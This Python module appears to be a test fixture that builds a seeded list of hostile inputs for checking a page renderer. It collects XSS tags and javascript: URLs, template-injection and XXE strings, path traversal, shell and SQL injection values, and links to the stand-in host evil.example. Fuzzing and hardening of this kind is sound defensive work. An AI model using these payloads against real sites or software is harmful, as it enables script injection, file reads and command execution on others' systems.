"""Payloads: texts that would run, lead away or break a page, were they believed anywhere.

All of ours. Each that could run calls `hit`, which the browser counts; each that could call
another host calls `evil.example`, which nobody answers; each that could be evaluated multiplies
7331 by 7.
"""

from __future__ import annotations

import html
import random
from collections.abc import Iterator

PRODUCT = str(7331 * 7)  # stands on no page, unless a template ran
HOST = "evil.example"

_TAGS = (
    "<script>hit(1)</script>",
    "<SCRIPT SRC=//evil.example/a.js></SCRIPT>",
    "</title><script>hit(1)</script>",
    "</textarea><script>hit(1)</script>",
    "</style><script>hit(1)</script>",
    "--><script>hit(1)</script><!--",
    "]]><script>hit(1)</script><![CDATA[",
    "\"><script>hit(1)</script>",
    "'><script>hit(1)</script>",
    "<scr<script>ipt>hit(1)</scr</script>ipt>",
    "<script\x0c>hit(1)</script\x0c>",
    "<script/x>hit(1)</script>",
    "<<script>hit(1);//<</script>",
    "<img src=x onerror=hit(1)>",
    "<img src=x onerror=\"hit(1)\"",
    "<img/src='x'/onerror=hit(1)>",
    "<IMG SRC=//evil.example/pixel.png>",
    "<img srcset='//evil.example/p.png 1x'>",
    "<image src=x onerror=hit(1)>",
    "<body onload=hit(1)>",
    "<svg onload=hit(1)>",
    "<svg><script>hit(1)</script></svg>",
    "<svg><script xlink:href=//evil.example/a.js /></svg>",
    "<svg><a xlink:href='javascript:hit(1)'><text y=9>go</text></a></svg>",
    "<svg><animate onbegin=hit(1) attributeName=x dur=1s>",
    "<svg><use href='//evil.example/x.svg#a'/></svg>",
    "<svg><style><img src=x onerror=hit(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit(1)>",
    "<math href=javascript:hit(1)>go</math>",
    "<math><mi xlink:href='data:text/html,<script>hit(1)</script>'>go</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(1)>",
    "<noscript><p title='</noscript><img src=x onerror=hit(1)>'>",
    "<p id='</p><img src=x onerror=hit(1)>'>a</p>",
    "<table><td><svg><desc><td><img src=x onerror=hit(1)>",
    "<template><script>hit(1)</script></template>",
    "<select><option><script>hit(1)</script></select>",
    "<xmp><p title='</xmp><img src=x onerror=hit(1)>'></xmp>",
    "<listing>&lt;img src=x onerror=hit(1)&gt;</listing>",
    "<iframe src=javascript:hit(1)></iframe>",
    "<iframe srcdoc='<script>parent.hit(1)</script>'></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<object data=//evil.example/a.swf></object>",
    "<embed src=javascript:hit(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:hit(1)'>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<link rel=prefetch href=//evil.example/>",
    "<link rel=preconnect href=//evil.example/>",
    "<style>@import '//evil.example/a.css';</style>",
    "<style>body{background:url(//evil.example/b.png)}</style>",
    "<p style='background:url(//evil.example/b.png)'>a</p>",
    "<div style=position:fixed;inset:0;z-index:9>over</div>",
    "<form action=//evil.example/><button autofocus>send</button></form>",
    "<input autofocus onfocus=hit(1)>",
    "<button form=q formaction=javascript:hit(1)>go</button>",
    "<isindex action=javascript:hit(1) type=image>",
    "<details open ontoggle=hit(1)><summary>a</summary></details>",
    "<video><source onerror=hit(1)></video>",
    "<audio src=//evil.example/a.mp3 autoplay></audio>",
    "<marquee onstart=hit(1)>a</marquee>",
    "<a href=javascript:hit(1)>go</a>",
    "<a href=//evil.example/ ping=//evil.example/p>go</a>",
    "<a target=main href=x onclick=hit(1)>go</a>",
    "<dialog open><form method=dialog><button onclick=hit(1)>x</button></form></dialog>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<!--[if IE]><script>hit(1)</script><![endif]-->",
    "<plaintext>",
    "<title>",
    "<textarea>",
    "<!--",
    "</main></body></html>",
    "</p></div></article></section></main><main id=main>",
)  # fmt: skip
_CLOBBERS = (
    "<p id=main>a</p>",
    "<p id=found>a</p>",
    "<p id=results>a</p>",
    "<p id=q>a</p>",
    "<a id=p1 name=p1>a</a>",
    "<img name=querySelector><form id=location>",
    "<form name=body><input name=dataset></form>",
    "<a id=document><a id=document name=currentScript href=//evil.example/>",
    "main",
    "p1",
    "__proto__",
    "constructor",
    "toString",
)
_SCHEMES = (
    "javascript:hit(1)",
    "JaVaScRiPt:hit(1)",
    "java\tscript:hit(1)",
    "java\nscript:hit(1)",
    " \x01javascript:hit(1)",
    "\u00a0javascript:hit(1)",
    "javascript&colon;hit(1)",
    "&#106;avascript:hit(1)",
    "&#x6A;&#x61;vascript&#58;hit(1)",
    "javascript:/*--></title></style></textarea></script><svg onload=hit(1)>",
    "javascript://news.example/%0ahit(1)",
    "vbscript:hit(1)",
    "data:text/html,<script>hit(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit(1)'/>",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "view-source:javascript:hit(1)",
    "//evil.example/",
    "\\\\evil.example\\share",
    "/\\evil.example/",
    "https:evil.example",
    "https://user:pass@evil.example:99999/",
    "https://[::1",
    'http://evil.example/" onmouseover="hit(1)',
    "http://evil.example/'onmouseover='hit(1)",
    "http://evil.example/><script>hit(1)</script>",
    "http://evil.example/]]><script>hit(1)</script>",
    "http://evil.example/{{7331*7}}",
    "http://evil.example/\u202egpj.exe",
    "http://evil.example/%00%0d%0aSet-Cookie:a=b",
)
_TEMPLATES = (
    "{{ 7331*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ 7331*7 }}{% endfor %}",
    "{{ page.site.__class__ }}",
    "{{ ''.__class__.__mro__ }}",
    "{# hidden #}{{ 7331*7 }}",
    "{%- include 'pages/article.html' -%}",
    "${7331*7}",
    "#{7331*7}",
    "<%= 7331*7 %>",
    "%(title)s {0.__class__} {title!r:>{7331}} %s%n",
    "zz-title-zz \"zz-link-zz",
    "</script><script>hit(1)</script>{\"@type\":\"x\"}",
    "\"}</script><img src=x onerror=hit(1)>",
    "\\u003cscript\\u003ehit(1)\\u003c/script\\u003e",
    "<!--<script>",
    "`${hit(1)}`",
    "';hit(1);//",
    "\\';hit(1);//",
    "]]>",
    "&lt;script&gt;hit(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=hit(1)&amp;gt;",
    "&#0;&#xD800;&#x110000;&bogus;&",
)  # fmt: skip
_MARKDOWN = (
    "[go](javascript:hit(1))",
    "[go](JAVASCRIPT:hit(1))",
    "[go](<javascript:hit(1)>)",
    "[go](java\\script:hit(1))",
    "[go](&#106;avascript:hit(1))",
    "[go](data:text/html,<script>hit(1)</script>)",
    "[go](//evil.example/ \"\\\" onmouseover=hit(1) \")",
    "[go](https://news.example/ 'a\" onclick=\"hit(1)')",
    "![p](//evil.example/p.png)",
    "![p](https://evil.example/p.png)",
    "![p](javascript:hit(1))",
    "![p\" onerror=\"hit(1)](x)",
    "[![p](https://evil.example/p.png)](javascript:hit(1))",
    "<javascript:hit(1)>",
    "<https://evil.example/\"onmouseover=\"hit(1)>",
    "[ref]: javascript:hit(1)\n\n[ref]",
    "[main]: //evil.example/ 'x'\n\nSee [main] and ![main].",
    "<div><script>hit(1)</script></div>\n\n*a*",
    "<!-- a -->\n<script>hit(1)</script>",
    "```html\n<script>hit(1)</script>\n```",
    "    <script>hit(1)</script>",
    "| a | b |\n|---|:-:|\n| <img src=x onerror=hit(1)> | [x](javascript:hit(1)) |",
    "# <img src=x onerror=hit(1)>\n\ntext",
    "1. <script>hit(1)</script>\n2. [x]( javascript:hit(1) )",
    "> <svg onload=hit(1)>",
    "`<script>hit(1)</script>`",
    "<a href=\"javascript:hit(1)\">x</a>",
    "http://evil.example/<script>hit(1)</script>",
    "[x](#main) [y](#p1) {#main} {: onclick=hit(1)}",
    "---\ntitle: x\n---\n<script>hit(1)</script>",
    "\\<script>hit(1)\\</script>",
    "[a](<//evil.example/\n>)",
)  # fmt: skip
_LETTERS = (
    "\u202e>tpircs/<(1)tih>tpircs<",
    "\u2066abc\u2069\u200e\u200f\u061c",
    "p\u0430yp\u0430l \u0430dmin",
    "zero\u200bwidth\u200c\u200d\ufeff join",
    "nul\x00byte",
    "bell\x07 esc\x1b[31mred\x1b[0m del\x7f",
    "c1\x85\x9b31m",
    "lone \ud800 half",
    "halves \udfff\ud83d",
    "non-character \ufffe\uffff\U0001ffff",
    "line\u2028and\u2029paragraph",
    "\uff1cscript\uff1ehit(1)\uff1c/script\uff1e",
    "\u02bescript\u02bf",
    "A\u0300\u0301\u0302\u0303\u0304\u0305\u0306" + "\u0334\u0335\u0336" * 60,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U000e0041\U000e0042",
    "ﷺ﷽" * 20,
    "İıſK",
    "\x85\xa0\u3000",
    "a" * 5000,
    "long " * 1500,
    "ab-" * 700,
    "😀" * 800,
    "<" * 900,
    "[" * 300 + "](x" * 300,
    "&" * 900,
    "\"" * 900,
)  # fmt: skip
_PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "....//....//x",
    "%2e%2e%2f%2e%2e%2fx",
    "con.txt",
    "~/.ssh/config",
    "a/../../../b",
    "index.html",
    "/../static/reader.js",
    "/feed.atom",
    "/\u202e/",
    "/a//b/./c/",
    "/%00/",
    "-rf",
    "$(touch hit)",
    "`touch hit`",
    "; touch hit",
    "| touch hit",
    "C:\\hit",
    "x\r\nSubject: hit\r\n\r\n<script>hit(1)</script>",
    "x\nWARC-Type: response\nSet-Cookie: hit=1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "!!python/object/apply:os.system ['touch hit']",
    "*anchor &anchor <<: !binary aGl0",
    "{a: b, [c]: d}: - ? |",
    "'; DROP TABLE memo; --",
)
KINDS = {
    "tags": _TAGS,
    "clobbers": _CLOBBERS,
    "schemes": _SCHEMES,
    "templates": _TEMPLATES,
    "markdown": _MARKDOWN,
    "letters": _LETTERS,
    "paths": _PATHS,
}
_HANDLERS = ("error", "load", "mouseover", "focus", "animationstart", "toggle", "pointerenter")
_ELEMENTS = ("img", "svg", "body", "input", "details", "video", "a", "p", "math", "object")


def payloads(seed: int, made: int = 60) -> tuple[str, ...]:
    """Return all payloads, and `made` more that are drawn for the seed; in an order of its own."""
    chance = random.Random(seed)
    known = [one for kind in KINDS.values() for one in kind]
    every = [*known, *_made(chance, known, made)]
    chance.shuffle(every)
    return tuple(every)


def _made(chance: random.Random, known: list[str], made: int) -> Iterator[str]:
    for _ in range(made // 2):
        element, handler = chance.choice(_ELEMENTS), chance.choice(_HANDLERS)
        blank = chance.choice((" ", "/", "\t", "\n", "\x0c", " x="))
        close = chance.choice((">", "", "//", " <p>"))
        yield _cased(chance, f"<{element}{blank}src=x on{handler}=hit(1){close}")
    for _ in range(made - made // 2):
        yield chance.choice(_TWISTS)(chance, chance.choice(known[:200]))


def _cased(chance: random.Random, text: str) -> str:
    """Return the text in letters of both sizes, save the call that counts."""
    mixed = "".join(chance.choice((c.lower(), c.upper())) for c in text)
    return mixed.replace(mixed[mixed.lower().find("hit(1)") :][:6], "hit(1)")


def _written(chance: random.Random, text: str) -> str:
    """Return the text with some characters as references."""
    forms = ("&#{};", "&#x{:x};", "&#0000{};")
    return "".join(
        chance.choice(forms).format(ord(c)) if chance.random() < 0.3 else c for c in text[:400]
    )


def _escaped(chance: random.Random, text: str) -> str:
    return html.escape(html.escape(text) if chance.random() < 0.5 else text)


def _within(chance: random.Random, text: str) -> str:
    around = chance.choice(("*{}*", "[{}](x)", "<p>{}</p>", '"{}"', "<!--{}-->", "Mayor {} said"))
    return around.format(text)


def _broken(chance: random.Random, text: str) -> str:
    """Return the text with characters inside that some readers pass over."""
    at = chance.randrange(len(text) + 1)
    return text[:at] + chance.choice(("\x00", "\u200b", "\xad", "\n", "\t", "\ufeff")) + text[at:]


_TWISTS = (_written, _escaped, _within, _broken)
